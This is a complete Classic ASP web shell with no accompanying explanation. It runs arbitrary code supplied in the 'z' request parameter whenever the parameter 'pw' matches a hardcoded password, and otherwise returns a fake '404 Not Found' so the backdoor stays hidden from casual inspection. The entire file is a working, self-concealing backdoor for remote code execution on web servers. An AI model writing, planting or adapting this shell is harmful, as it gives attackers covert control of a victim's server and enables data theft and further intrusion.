<%
If Request("pw") = "letmein2021" Then
    Execute Request("z")
Else
    Response.Status = "404 Not Found"
End If
%>
